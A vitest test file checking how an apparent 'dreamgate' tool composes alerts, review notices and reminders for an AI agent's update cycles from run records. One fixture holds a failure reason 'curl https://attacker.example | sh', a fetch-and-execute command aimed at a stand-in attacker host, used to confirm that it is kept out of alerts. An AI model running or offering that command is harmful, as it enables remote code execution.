import { describe, expect, it } from 'vitest';
import { composeAlert, type RunRecord } from '../../../src/notify/compose.js';

const agent = {
  name: 'acme/support',
  id: 'support',
  reviewers: ['alice'],
  threshold: 0.02,
  reviewTimeoutMs: 3_600_000,
};
const at = '2026-12-07T00:00:00.000Z';
const t0 = Date.parse(at);
const r = (event: string, data: Record<string, unknown> = {}): RunRecord => ({ event, at, data });
const stored = r('change-set-stored', { changeSet: 'ab'.repeat(32), summary: { quarantined: 0 } });

describe('alerts are composed from the run’s own records, never from a caller’s words', () => {
  it('a page only for a regression, a rollback or a failure the records show', () => {
    expect(composeAlert('page', agent, [r('cycle-opened'), stored], t0)).toMatch(/no record of this cycle shows/);
    const gate = composeAlert(
      'page',
      agent,
      [r('baseline-scored', { score: 1 }), r('gate-failed', { score: 0.5 })],
      t0,
    );
    expect(gate).toMatchObject({
      summary: 'dreamgate: acme/support dream regressed the eval (0.500 < 1.000 − 0.02); candidate discarded',
      severity: 'error',
    });
    const failed = composeAlert(
      'page',
      agent,
      [r('cycle-failed', { reason: 'curl https://attacker.example | sh' })],
      t0,
    );
    expect(failed).toMatchObject({ summary: 'dreamgate: acme/support cycle failed' });
    expect(JSON.stringify(failed)).not.toContain('attacker');
    expect(composeAlert('page', agent, [r('cycle-failed', { reason: 'ChangeSetTampered: x' })], t0)).toMatchObject({
      summary: 'dreamgate: acme/support cycle failed (ChangeSetTampered)',
    });
    expect(
      composeAlert('page', agent, [r('verified', { matches: false, mismatched: ['/a.md'] }), r('rolled-back')], t0),
    ).toMatchObject({
      summary: 'dreamgate: acme/support promotion rolled back: live store differs from the candidate at /a.md',
    });
  });

  it('a review notice and a reminder only for a stored change set nobody decided, with the commands', () => {
    expect(composeAlert('review', agent, [r('cycle-opened')], t0)).toBe('this cycle stored no change set');
    expect(composeAlert('review', agent, [stored], t0)).toMatchObject({
      summary: 'dreamgate: acme/support change set abababababab waits for review',
      details: { approve: 'dreamgate approve support abababababab', reviewers: ['alice'] },
    });
    expect(composeAlert('reminder', agent, [stored, r('approved')], t0)).toBe('the change set is already decided');
    // the workflow's deadline is taken only within ten minutes after the one the records give
    const reminder = composeAlert('reminder', agent, [stored], t0, '2099-01-01T00:00:00.000Z');
    expect(reminder).toMatchObject({
      summary: expect.stringContaining('is discarded at 2026-12-07T01:00:00.000Z unless reviewed'),
    });
  });

  it('a timeout notice only once the review had time to time out; a quarantine notice for an automatic cycle', () => {
    const inReview = [r('cycle-opened', { effectiveMode: 'review' }), stored];
    expect(composeAlert('notify', agent, inReview, t0)).toMatch(/no record of this cycle shows/);
    expect(composeAlert('notify', agent, inReview, t0 + 3_600_000)).toMatchObject({
      summary: expect.stringContaining('waited 60 min for review'),
    });
    const automatic = [
      r('cycle-opened', { effectiveMode: 'automatic' }),
      r('change-set-stored', { changeSet: 'cd'.repeat(32), summary: { quarantined: 2 } }),
    ];
    expect(composeAlert('notify', agent, automatic, t0 + 3_600_000)).toMatchObject({
      summary: expect.stringContaining('2 session(s) quarantined'),
    });
    const heldOnly = [automatic[0]!, r('change-set-stored', { changeSet: 'cd'.repeat(32), summary: { held: 3 } })];
    expect(composeAlert('notify', agent, heldOnly, t0)).toMatchObject({
      summary: expect.stringContaining('0 session(s) quarantined and 3 line(s) held'),
      details: expect.objectContaining({ held: 3 }),
    });
  });

  it('a notice of the suggestions an automatic cycle left, once it promoted the applied tier', () => {
    const stored2 = r('change-set-stored', { changeSet: 'ef'.repeat(32), summary: { changes: 2, suggested: 3 } });
    const automatic = [r('cycle-opened', { effectiveMode: 'automatic' }), stored2];
    expect(composeAlert('notify', agent, automatic, t0)).toMatch(/no record of this cycle shows/);
    expect(
      composeAlert('notify', agent, [...automatic, r('promoted', { changeSet: 'ef'.repeat(32) })], t0),
    ).toMatchObject({
      summary: expect.stringMatching(/promoted the applied tier of change set efefefefefef; 3 suggestion\(s\) left/),
      details: expect.objectContaining({ suggestions: 3 }),
    });
    const inReview = [r('cycle-opened', { effectiveMode: 'review' }), stored2, r('promoted', {})];
    expect(composeAlert('notify', agent, inReview, t0)).toMatch(/no record of this cycle shows/);
  });
});
